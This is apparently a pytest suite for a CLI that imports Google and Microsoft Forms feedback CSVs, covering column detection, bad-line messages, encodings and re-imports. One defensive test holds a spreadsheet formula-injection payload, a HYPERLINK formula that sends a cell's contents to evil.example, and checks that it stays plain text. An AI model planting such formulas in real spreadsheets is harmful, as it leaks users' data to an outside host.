"""Importing the CSV that Google Forms and Microsoft Forms export: columns found by header and
content, the session from --session or a column, bad lines listed with their number and reason
(nothing imported unless --skip-invalid), a re-import that adds nothing, every encoding a
spreadsheet saves, formula payloads kept as text, and a 10 kB cell refused naming its column.

The history is tests/attendance_fixture.py: at S1 (3 Feb 12:00 Berlin) Ana and Dee came,
Bob was absent; at S4 (24 Feb) Ana and Dee came.
"""

from __future__ import annotations

import codecs
import json
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from circles.cli import main
from circles.errors import InvalidInput
from circles.file_errors import shown_path
from circles.services import feedback
from circles.services.feedback_import import find_columns, import_forms
from models.store import Store
from tests.attendance_fixture import History, build

GOOGLE_HEADER = (
    '"Timestamp","Email Address","How useful was this session? (1-5)","One thing you learned",'
    '"Anything for the presenter?"'
)


def google(*rows: str) -> str:
    return "\r\n".join([GOOGLE_HEADER, *rows]) + "\r\n"


ANA = '"2026/02/03 6:31:05 PM GMT+1","ana@example.org","5","Borrowing is checked at compile time",""'
DEE = '"2026/02/03 7:02:44 PM GMT+1","Dee@Example.org","4","Lifetimes","Slower next time, please"'


@pytest.fixture
def history(store: Store) -> History:
    return build(store)


def _import(store: Store, path: Path, session: int | None, **kw: bool):  # type: ignore[no-untyped-def]
    with store.write() as db:
        return import_forms(db, path, session_id=session, **kw)


def _answers(store: Store, session_id: int) -> list[tuple[str | None, int, str, str]]:
    with store.read() as db:
        return sorted(
            (a.person_name, a.rating, a.learned, a.for_presenter)
            for a in feedback.list_answers(db, session_id)
        )


def test_a_google_forms_export_imports_and_importing_it_again_adds_nothing(
    store: Store, history: History, tmp_path: Path
) -> None:
    path = tmp_path / "Session feedback (Responses) - Form Responses 1.csv"
    path.write_text(google(ANA, DEE), encoding="utf-8")
    first = _import(store, path, history.s["S1"])
    assert first.imported and (first.added, first.replaced, first.already, first.bad) == (2, 0, 0, [])
    assert first.columns == [
        ("e-mail", "Email Address"),
        ("rating", "How useful was this session? (1-5)"),
        ("learned", "One thing you learned"),
        ("for presenter", "Anything for the presenter?"),
    ]
    expected = [
        ("Ana Ruiz", 5, "Borrowing is checked at compile time", ""),
        ("Dee Park", 4, "Lifetimes", "Slower next time, please"),
    ]
    assert _answers(store, history.s["S1"]) == expected
    again = _import(store, path, history.s["S1"])
    assert (again.added, again.replaced, again.already, again.bad) == (0, 0, 2, [])
    assert _answers(store, history.s["S1"]) == expected
    with store.read() as db:
        assert feedback.missing_for_session(db, history.s["S1"]) == []


def test_bad_lines_are_listed_and_nothing_is_imported_unless_asked(
    store: Store, history: History, tmp_path: Path
) -> None:
    path = tmp_path / "answers.csv"
    path.write_text(
        google(
            ANA,
            '"2026/02/03 6:40:00 PM GMT+1","nobody@example.org","4","x",""',
            '"2026/02/03 6:41:00 PM GMT+1","dee@example.org","7","x",""',
            '"2026/02/03 6:42:00 PM GMT+1","bob@example.org","3","x",""',
            '"2026/02/03 9:00:00 AM GMT+1","dee@example.org","3","x",""',
        )
    )
    result = _import(store, path, history.s["S1"])
    assert not result.imported
    assert [str(b) for b in result.bad] == [
        # Each reason a sentence, as the ones typed input gives are.
        "line 3: Email Address: nobody has the e-mail address 'nobody@example.org'.",
        "line 4: How useful was this session? (1-5) '7' must be a whole number from 1 to 5.",
        "line 5: Bob Stone was not at Rust Lunch, Tue 03 Feb 2026 12:00: only people who came can answer.",
        "line 6: Timestamp: answered '2026/02/03 9:00:00 AM GMT+1', before Rust Lunch, Tue 03 Feb 2026 "
        "12:00 began; is this the right session?",
    ]
    assert _answers(store, history.s["S1"]) == []
    skipped = _import(store, path, history.s["S1"], skip_invalid=True)
    assert skipped.imported and skipped.added == 1 and len(skipped.bad) == 4
    assert _answers(store, history.s["S1"]) == [("Ana Ruiz", 5, "Borrowing is checked at compile time", "")]


def test_a_later_line_replaces_an_earlier_one_and_says_so(
    store: Store, history: History, tmp_path: Path
) -> None:
    path = tmp_path / "answers.csv"
    path.write_text(google(ANA, '"2026/02/03 8:00:00 PM GMT+1","ana@example.org","3","On second thought",""'))
    result = _import(store, path, history.s["S1"])
    assert result.added == 1 and result.notes == [
        "line 3: replaces Ana Ruiz's answer on line 2 (the later one counts)"
    ]
    assert _answers(store, history.s["S1"]) == [("Ana Ruiz", 3, "On second thought", "")]
    # The same person answering again later (a new form row) replaces, and says so.
    later = tmp_path / "later.csv"
    later.write_text(google('"2026/02/04 9:00:00 AM GMT+1","ana@example.org","4","Slept on it",""'))
    again = _import(store, later, history.s["S1"])
    assert (again.added, again.replaced) == (0, 1)
    assert again.notes == [
        "line 2: replaces Ana Ruiz's earlier answer about Rust Lunch, Tue 03 Feb 2026 12:00"
    ]


MICROSOFT = (
    "ID,Start time,Completion time,Email,Name,Which session?,How would you rate the session?,"
    "What is one thing you learned?,Any note for the presenter?\r\n"
    "1,2/3/2026 18:20:11,2/3/2026 18:21:40,ana@example.org,Ana Ruiz,{s1},4,Ownership,\r\n"
    "2,2/24/2026 18:05:00,2/24/2026 18:06:12,dee@example.org,Dee Park,Session S4,5,Traits,Great demo\r\n"
    "3,2/24/2026 18:07:00,2/24/2026 18:08:00,anonymous,,Session S4,3,Something,\r\n"
)


def test_a_microsoft_forms_export_names_the_session_in_a_column(
    store: Store, history: History, tmp_path: Path
) -> None:
    path = tmp_path / "Session feedback.csv"
    path.write_text(MICROSOFT.format(s1=history.s["S1"]))
    result = _import(store, path, None, skip_invalid=True)
    # The ID column holds whole numbers too; its header says it is not the rating.
    assert ("rating", "How would you rate the session?") in result.columns
    assert ("session", "Which session?") in result.columns
    assert [str(b) for b in result.bad] == [
        "line 4: Email: the form did not record who answered ('anonymous'); circles needs the e-mail address."
    ]
    assert _answers(store, history.s["S1"]) == [("Ana Ruiz", 4, "Ownership", "")]
    assert _answers(store, history.s["S4"]) == [("Dee Park", 5, "Traits", "Great demo")]


@pytest.mark.parametrize("named", ["\u00b2", "#\u0663", "0", "99999999999999999999"])
def test_a_session_named_by_no_id_is_a_bad_line(
    store: Store, history: History, tmp_path: Path, named: str
) -> None:
    """'²' and '٣' are digits to str.isdigit() and not to int(): the whole import ended in
    'Something went wrong'."""
    path = tmp_path / "Session feedback.csv"
    path.write_text(MICROSOFT.format(s1=named))
    result = _import(store, path, None, skip_invalid=True)
    assert f"line 2: Which session?: no session has the id or title {named!r}." in [
        str(b) for b in result.bad
    ]
    assert _answers(store, history.s["S4"]) == [("Dee Park", 5, "Traits", "Great demo")]


def test_a_file_with_no_session_column_needs_session(store: Store, history: History, tmp_path: Path) -> None:
    path = tmp_path / "answers.csv"
    path.write_text(google(ANA))
    with pytest.raises(InvalidInput, match="names no session column: give the session with --session ID"):
        _import(store, path, None)


@pytest.mark.parametrize(
    ("encoding", "bom", "separator"),
    [
        ("utf-8", b"", ","),
        ("utf-8", codecs.BOM_UTF8, ","),
        ("utf-16-le", codecs.BOM_UTF16_LE, "\t"),
        ("cp1252", b"", ";"),
    ],
)
def test_every_encoding_a_spreadsheet_saves(
    store: Store, history: History, tmp_path: Path, encoding: str, bom: bytes, separator: str
) -> None:
    text = google('"2026/02/03 6:31:05 PM GMT+1","ana@example.org","5","Café crème, naïve Zoë",""').replace(
        '","', f'"{separator}"'
    )
    path = tmp_path / "answers.csv"
    path.write_bytes(bom + text.encode(encoding))
    result = _import(store, path, history.s["S1"])
    assert result.imported and result.added == 1, result.bad
    assert _answers(store, history.s["S1"]) == [("Ana Ruiz", 5, "Café crème, naïve Zoë", "")]


def test_formula_payloads_stay_text_everywhere(store: Store, history: History, tmp_path: Path) -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    path = tmp_path / "answers.csv"
    quoted = payload.replace('"', '""')
    path.write_text(google(f'"2026/02/03 6:31:05 PM GMT+1","ana@example.org","5","{quoted}","@SUM(1)"'))
    assert _import(store, path, history.s["S1"]).added == 1
    assert _answers(store, history.s["S1"]) == [("Ana Ruiz", 5, payload, "@SUM(1)")]
    out = tmp_path / "report.xlsx"
    runner = CliRunner()
    db = ["--db", store.url.render_as_string(hide_password=False)]
    result = runner.invoke(main, [*db, "report", "--xlsx", str(out)])
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(out)["Learned"]
    cell = sheet["E2"]
    assert cell.data_type == "s" and cell.value == "'" + payload  # text, never a formula


def test_a_10_kb_cell_is_refused_naming_its_column(store: Store, history: History, tmp_path: Path) -> None:
    path = tmp_path / "answers.csv"
    path.write_text(google(f'"2026/02/03 6:31:05 PM GMT+1","ana@example.org","5","{"x" * 10240}",""', DEE))
    result = _import(store, path, history.s["S1"])
    assert not result.imported
    assert [str(b) for b in result.bad] == [
        "line 2: One thing you learned '" + "x" * 60 + "…' is 10240 characters long; the limit is 300."
    ]


def test_columns_are_found_by_header_and_content_together() -> None:
    header = ["Timestamp", "Score", "Username", "Rate the talk", "Comments", "What did you learn?"]
    rows = [["2026/02/03 18:00:00", "10", "ana@example.org", "4", "nice", "traits"]] * 3
    found = find_columns(header, rows, need_session=False)
    assert (found.email, found.rating, found.learned, found.for_presenter) == (2, 3, 5, 4)
    with pytest.raises(InvalidInput, match="no column of e-mail addresses"):
        find_columns(["Name", "Rating"], [["Ana", "4"]], need_session=False)
    with pytest.raises(InvalidInput, match="no column of ratings"):
        find_columns(["Email", "Comments"], [["ana@example.org", "good"]], need_session=False)


def test_cli_import_lists_bad_lines_and_exits_1(store: Store, history: History, tmp_path: Path) -> None:
    path = tmp_path / "answers.csv"
    path.write_text(google(ANA, '"2026/02/03 6:41:00 PM GMT+1","dee@example.org","7","x",""'))
    runner = CliRunner()
    db = ["--db", store.url.render_as_string(hide_password=False)]
    s1 = str(history.s["S1"])
    bad = runner.invoke(main, [*db, "feedback", "import", str(path), "--session", s1])
    assert bad.exit_code == 1
    assert "answers.csv: line 3: How useful was this session? (1-5) '7' must be a whole number" in bad.output
    assert "circles: nothing imported: 1 bad line; fix it or add --skip-invalid." in bad.output
    assert "Traceback" not in bad.output
    ok = runner.invoke(main, [*db, "feedback", "import", str(path), "--session", s1, "--skip-invalid"])
    assert ok.exit_code == 0, ok.output
    assert "Imported 1 new answer; skipped 1 bad line." in ok.output
    again = runner.invoke(main, [*db, "feedback", "import", str(path), "--session", s1, "--skip-invalid"])
    assert "No new answers; 1 was imported before; skipped 1 bad line." in again.output
    listed = runner.invoke(main, [*db, "feedback", "list", s1, "--json"])
    assert [a["rating"] for a in json.loads(listed.output)] == [5]
    garbage = tmp_path / "garbage.csv"
    garbage.write_bytes(b"\x00\x01\x02")
    refused = runner.invoke(main, [*db, "feedback", "import", str(garbage), "--session", s1])
    assert refused.exit_code == 1 and len(refused.output.strip().splitlines()) == 1


def test_a_folder_named_for_a_file_is_one_line_and_status_1(store: Store, tmp_path: Path) -> None:
    runner = CliRunner()
    db = ["--db", store.url.render_as_string(hide_password=False)]
    # click refused it with a usage block and status 2, unlike a missing file (one line, 1).
    for args, field in (
        (["feedback", "import", str(tmp_path), "--session", "1"], "file"),
        (["recognition", "-o", str(tmp_path)], "--output"),
    ):
        refused = runner.invoke(main, [*db, *args])
        assert refused.exit_code == 1, refused.output
        assert refused.output.strip().splitlines() == [
            f"circles: {field} '{shown_path(tmp_path)}' cannot be used: it is a folder."
        ]


def test_cli_lists_the_first_twenty_bad_lines_and_puts_every_one_in_a_file(
    store: Store, history: History, tmp_path: Path
) -> None:
    """A large export with one mistake on every line (a rating of 7) prints twenty lines and a
    count, not thousands; the file it names beside the import holds every bad line, in order."""
    path = tmp_path / "answers.csv"
    many = 45
    path.write_text(
        google(ANA, *[f'"2026/02/03 6:41:00 PM GMT+1","dee@example.org","7","x{n}",""' for n in range(many)])
    )
    runner = CliRunner()
    db = ["--db", store.url.render_as_string(hide_password=False)]
    bad = runner.invoke(main, [*db, "feedback", "import", str(path), "--session", str(history.s["S1"])])
    assert bad.exit_code == 1 and "Traceback" not in bad.output
    listed = [line for line in bad.output.splitlines() if line.startswith("answers.csv: line ")]
    assert len(listed) == 20 and listed[0].startswith("answers.csv: line 3: ")
    last = bad.output.splitlines()[-2]
    assert last.startswith(f"answers.csv: … and 25 more; all {many} of them are in ")
    report = Path(last.rsplit(" are in ", 1)[1])
    assert report.parent == tmp_path and report.name.startswith("answers-bad-lines-")
    kept = report.read_text(encoding="utf-8").splitlines()
    assert [f"answers.csv: {line}" for line in kept[:20]] == listed
    assert [int(line.split()[1].rstrip(":")) for line in kept] == list(range(3, 3 + many))
    assert f"circles: nothing imported: {many} bad lines; fix them or add --skip-invalid." in bad.output
    with store.read() as session:
        assert feedback.list_answers(session, history.s["S1"]) == []
